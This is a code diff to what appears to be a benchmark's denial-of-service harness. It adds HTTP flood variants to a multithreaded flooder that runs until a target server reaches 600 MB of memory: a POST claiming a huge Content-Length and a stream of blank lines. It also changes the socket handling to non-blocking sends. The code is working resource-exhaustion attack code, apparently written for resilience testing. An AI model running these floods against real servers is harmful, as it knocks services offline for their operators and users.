@@ -18,6 +18,7 @@ from bench.attacks.victim import READY, VICTIM, Target, Watch, guest, watching
 SETTINGS: dict[str, str] = {}
 MEMORY: float = 600.0  # MB at which the attack ends
 _PIECE = 64 * 1024  # bytes of a write
+_FULL = 0.01  # seconds before the next write to a full buffer
 _AGAIN = 0.05  # seconds before a closed connection is opened again
 
 
@@ -54,6 +55,8 @@ FLOODS = {
     "address": Flood("GET /", b"a"),
     "chunks": Flood(CHUNKED, b"1\r\na\r\n"),
     "trailers": Flood(CHUNKED + "1\r\na\r\n0\r\n", b"a: b\r\n"),
+    "body": Flood(HEAD.format("POST /api/replay") + "Content-Length: 1000000000000\r\n\r\n", b"a"),
+    "blank lines": Flood("", b"\r\n"),
     "other upgrade": Flood(UPGRADE.format("GET /livez", "other", "a"), b"a"),
 }
 
@@ -88,7 +91,7 @@ class Flooder(threading.Thread):
                 plain.sendall(self._opening)
                 if self._opening.startswith(SOCKET[:12].encode()):
                     plain.recv(64)
-                plain.settimeout(0.1)
+                plain.setblocking(False)
                 self._send(plain)
             self.ended.wait(_AGAIN)
 
@@ -96,14 +99,24 @@ class Flooder(threading.Thread):
         began, sent = time.monotonic(), 0
         while not self.ended.is_set():
             at = sent % len(self._unit)
-            with suppress(TimeoutError):
-                sent += (size := plain.send(self._unit[at:]))
-                self.sent += size
-            if self._flood.reads:
-                with suppress(BlockingIOError):
-                    while plain.recv(1 << 16, socket.MSG_DONTWAIT):
-                        pass
-            self.ended.wait(max(0.0, began + sent / self._rate - time.monotonic()))
+            size = 0
+            with suppress(BlockingIOError):
+                size = plain.send(self._unit[at:])
+            sent += size
+            self.sent += size
+            if self._flood.reads and not _read(plain):
+                return
+            pause = began + sent / self._rate - time.monotonic()
+            self.ended.wait(max(pause, 0.0 if size else _FULL))
+
+
+def _read(plain: socket.socket) -> bool:
+    """Read what has arrived; whether the connection is open."""
+    with suppress(BlockingIOError):
+        while plain.recv(1 << 16):
+            pass
+        return False
+    return True
 
 
 async def attack(target: Target, wanted: argparse.Namespace) -> dict[str, Any]:
